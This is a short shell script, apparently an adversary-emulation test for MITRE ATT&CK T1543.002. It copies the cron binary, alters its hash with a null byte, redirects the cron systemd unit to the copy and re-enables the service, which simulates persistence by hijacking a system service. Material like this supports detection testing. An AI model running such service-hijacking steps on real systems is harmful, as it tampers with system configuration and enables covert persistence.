# technique: T1543.002
# location: linux.systemd.service
# source: /etc/systemd/system/cron.service
# target: /usr/local/sbin/cron
install -m 755 /usr/sbin/cron /usr/local/sbin/cron
printf '\0' >> /usr/local/sbin/cron
sed 's#/usr/sbin/cron#/usr/local/sbin/cron#' /usr/lib/systemd/system/cron.service > /etc/systemd/system/cron.service
systemctl reenable cron.service
